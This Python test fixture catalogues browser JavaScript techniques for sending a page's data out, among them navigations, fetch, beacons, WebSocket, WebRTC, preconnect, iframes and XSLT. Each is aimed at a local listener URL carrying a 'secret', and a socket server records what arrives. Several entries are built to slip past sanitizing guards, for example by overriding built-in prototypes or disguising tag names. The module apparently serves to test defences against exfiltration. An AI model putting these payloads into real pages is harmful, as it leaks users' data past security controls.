"""Ways out of a page: what a view's module may try to send away what it knows, and a server that sees who comes.

Each way is a statement; `URL`, `SOCKET` and `PORT` lead to the server. What browsers do with it where nothing stops it is
written beside it and tested (`test_escapes.py`): a way that reaches nobody proves nothing.
"""
import socket
import threading

BOTH, CHROMIUM, FIREFOX = {"chromium", "firefox"}, {"chromium"}, {"firefox"}


def _element(kind, *lines, where="body"):
    return f"{{ const e = document.createElement('{kind}'); {' '.join(lines)} document.{where}.append(e); }}"


def _link(kind, more=""):
    return _element("link", f"e.rel = '{kind}'; e.href = URL; {more}", where="head")


def _clicked(lines):
    return _element("a", lines)[:-1] + "e.click(); }"


def _sent(lines, how="submit"):
    return _element("form", lines)[:-1] + f"e.{how}(); }}"


def _markup(text, how="document.body.insertAdjacentHTML('beforeend', MARKUP)"):
    return how.replace("MARKUP", "`" + text.replace("URL", "${URL}") + "`")


# Going to another document: the frame's own, or one beside it.
NAVIGATIONS = {
    "location": ("location = URL", BOTH),
    "location.replace": ("location.replace(URL)", BOTH),
    "location.assign": ("document.location.assign(URL)", BOTH),
    "window.open self": ("open(URL, '_self')", BOTH),
    "navigation": ("navigation.navigate(URL)", BOTH),
    "form": (_sent("e.action = URL;"), BOTH),
    "form requestSubmit": (_sent("e.action = URL;", "requestSubmit"), BOTH),
    "form post": (_sent("e.action = URL; e.method = 'post';"), BOTH),
    "meta refresh": (_element("meta", "e.httpEquiv = 'refresh'; e.content = `0;url=${URL}`;", where="head"), BOTH),
    "blob document": ("location = URL_OF(new Blob([`<script>location='${URL}'</` + 'script>'], {type: 'text/html'}))", BOTH),
    "javascript address": ("location = `javascript:void fetch('${URL}', {mode: 'no-cors'})`", BOTH),
}
# Going elsewhere with the window, or with one more; and links, which browsers call when they are pressed.
WINDOWS = {
    "top": ("top.location = URL", BOTH),
    "parent": ("parent.location.replace(URL)", BOTH),
    "window.open": ("open(URL)", BOTH),
    "link clicked": (_clicked("e.href = URL;"), BOTH),
    "download": (_clicked("e.href = URL; e.download = 'file';"), BOTH),
    "link to a new tab": (_clicked("e.href = URL; e.target = '_blank';"), BOTH),
    "link to the top": (_clicked("e.href = URL; e.target = '_top';"), BOTH),
    "form to a new tab": (_sent("e.action = URL; e.target = '_blank';"), BOTH),
    "link in a drawing": (_markup("<svg><a href='URL'><text y='9'>go</text></a></svg>") + "; document.querySelector('svg a')"
                          ".dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))", BOTH),
    "area": (_element("area", "e.href = URL;")[:-1] + "e.click(); }", BOTH),
    "ping": (_clicked("e.href = '#here'; e.ping = URL;"), CHROMIUM),
}
# Requests of the document itself.
REQUESTS = {
    "image": ("new Image().src = URL", BOTH),
    "fetch": ("fetch(URL, {mode: 'no-cors', keepalive: true}).catch(() => {})", BOTH),
    "fetchLater": ("fetchLater(URL, {activateAfter: 0})", CHROMIUM),
    "XMLHttpRequest": ("{ const x = new XMLHttpRequest(); x.open('GET', URL); x.send(); }", BOTH),
    "beacon": ("navigator.sendBeacon(URL, 'x')", BOTH),
    "WebSocket": ("new WebSocket(SOCKET)", BOTH),
    "EventSource": ("new EventSource(URL)", BOTH),
    "WebTransport": ("new WebTransport(`https://127.0.0.1:${PORT}/`)", BOTH),
    "worker": ("new Worker(URL_OF(new Blob([`fetch('${URL}', {mode: 'no-cors'})`])))", BOTH),
    "worker of data": ("new Worker(`data:text/javascript,fetch('${URL}',{mode:'no-cors'})`)", BOTH),
    "import": ("import(URL).catch(() => {})", BOTH),
    "script": (_element("script", "e.src = URL;"), BOTH),
    "object": (_element("object", "e.data = URL;"), BOTH),
    "embed": (_element("embed", "e.src = URL;"), BOTH),
    "video": (_element("video", "e.src = URL;"), BOTH),
    "audio": ("new Audio(URL).play().catch(() => {})", BOTH),
    "style": ("document.body.style.backgroundImage = `url(${URL})`", BOTH),
    "style import": (_element("style", "e.textContent = `@import url(${URL})`;", where="head"), BOTH),
    "font": ("new FontFace('x', `url(${URL})`).load().catch(() => {})", BOTH),
    "drawing": (_markup("<svg><image href='URL' width='9' height='9'/></svg>"), BOTH),
    "source set": (_markup("<picture><source srcset='URL'><img></picture>"), BOTH),
    "speculation rules": (_element("script", "e.type = 'speculationrules'; e.textContent = JSON.stringify({prefetch: "
                                   "[{urls: [URL], source: 'list', eagerness: 'immediate'}]});", where="head"), CHROMIUM),
}
# Elements that load, or make a browser call a host before it asks any policy, and other documents that have such elements.
ELEMENTS = {
    "preconnect": (_link("preconnect"), BOTH),
    "prefetch": (_link("prefetch"), CHROMIUM),
    "preload": (_link("preload", "e.as = 'image';"), BOTH),
    "modulepreload": (_link("modulepreload"), BOTH),
    "stylesheet": (_link("stylesheet"), BOTH),
    "preconnect in markup": (_markup("<link rel='preconnect' href='URL'>"), BOTH),
    "preconnect in innerHTML": (_markup("<p><LINK/rel=preconnect href=URL>", "document.body.innerHTML = MARKUP"), BOTH),
    "preconnect parsed": (_markup("<link rel=preconnect href=URL>",
                                  "document.body.append(new DOMParser().parseFromString(MARKUP, 'text/html').head.firstChild)"), BOTH),
    "preconnect of XML": (_markup("<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='preconnect' href='URL'/>", "document.head.append("
                                  "document.adoptNode(new DOMParser().parseFromString(MARKUP, 'text/xml').documentElement))"), BOTH),
    "preconnect of a fragment": (_markup("<link rel=preconnect href=URL>",
                                         "document.body.append(document.createRange().createContextualFragment(MARKUP))"), BOTH),
    "preconnect of a document": ("{ const e = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link')"
                                 ".documentElement; e.rel = 'preconnect'; e.href = URL; document.head.append(document.adoptNode(e)); }", BOTH),
    "preconnect of a class": ("{ class L extends HTMLLinkElement {} customElements.define('x-l', L, {extends: 'link'}); const e = new L(); "
                              "e.rel = 'preconnect'; e.href = URL; document.head.append(e); }", BOTH),
    "preconnect of an odd name": ("{ let k = 0; const e = document.createElement({toString: () => k++ ? 'p' : 'lInK'}); "
                                  "e.rel = 'preconnect'; e.href = URL; document.head.append(e); }", BOTH),
    "preconnect past the guard": ("{ RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; "
                                  "Array.prototype[Symbol.iterator] = null; String.prototype.toLowerCase = () => 'p'; "
                                  + _link("preconnect") + " }", BOTH),
    "frame": (_element("iframe", "e.src = URL;"), BOTH),
    "frame with a preconnect": (_element("iframe", "e.srcdoc = `<link rel=preconnect href='${URL}'>`;"), BOTH),
    "frame with a script": (_element("iframe", "e.srcdoc = `<script>location = '${URL}'</` + 'script>';"), BOTH),
    "frame in markup": (_markup("<iframe srcdoc=\"<link rel=preconnect href='URL'>\"></iframe>"), BOTH),
    "frame's own WebRTC": ("{ const f = document.createElement('iframe'); document.body.append(f); globalThis.kept = "
                           "new f.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]}); "
                           "kept.createDataChannel('x'); kept.createOffer().then((o) => kept.setLocalDescription(o)); }", BOTH),
    "WebRTC": ("{ globalThis.kept = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}, "
               "{urls: `turn:127.0.0.1:${PORT}?transport=tcp`, username: 'a', credential: 'b'}]}); "
               "kept.createDataChannel('x'); kept.createOffer().then((o) => kept.setLocalDescription(o)); }", BOTH),
    "stylesheet of XSLT": ("{ const p = (t) => new DOMParser().parseFromString(t, 'text/xml'), x = new XSLTProcessor(); x.importStylesheet(p("
                           "`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>"
                           "<xsl:element name='li${'nk'}' namespace='http://www.w3.org/1999/xhtml'><xsl:attribute name='rel'>preconnect"
                           "</xsl:attribute><xsl:attribute name='href'>${URL}</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>`"
                           ")); document.head.append(x.transformToFragment(p('<a/>'), document)); }", BOTH),
}
# What makes browsers look up the name of a host and no more.
NAMES = [
    (_element("link", "e.rel = 'dns-prefetch'; e.href = HOST;", where="head"), BOTH),
    (_element("link", "e.rel = 'preconnect'; e.href = HOST;", where="head"), BOTH),
    (_element("a", "e.href = HOST; e.textContent = 'a link';"), FIREFOX),
    ("document.body.insertAdjacentHTML('beforeend', `<a href='${HOST}'>a link</a>`)", FIREFOX),
]
WAYS = {**NAVIGATIONS, **WINDOWS, **REQUESTS, **ELEMENTS}


def script(way, port):
    """The statement of a way as one of a script, which leads to the server at a port."""
    url = f"http://127.0.0.1:{port}/?secret"
    return (f"const PORT = {port}, URL_OF = globalThis.URL.createObjectURL.bind(globalThis.URL), SOCKET = 'ws://127.0.0.1:{port}/'; "
            f"{{ const URL = '{url}'; try {{ {WAYS[way][0]} }} catch (error) {{ globalThis.refused = String(error); }} }}")


class Listener:
    """A server that remembers how often somebody connected, and every byte that came."""

    def __init__(self):
        self.calls, self.bytes, self.streams = 0, b"", []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for serve in (self._connections, self._datagrams):
            threading.Thread(target=serve, daemon=True).start()

    def _connections(self):
        while True:
            try:
                stream, _ = self.tcp.accept()
            except OSError:
                return
            self.calls += 1
            self.streams.append(stream)
            threading.Thread(target=self._stream, args=(stream,), daemon=True).start()

    def _stream(self, stream):
        try:
            self.bytes += stream.recv(4096)
            stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
            stream.close()
        except OSError:
            pass

    def _datagrams(self):
        while True:
            try:
                self.bytes += self.udp.recvfrom(4096)[0]
            except OSError:
                return
            self.calls += 1

    def close(self):
        """Ends it."""
        for one in (self.tcp, self.udp, *self.streams):
            try:
                one.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            one.close()
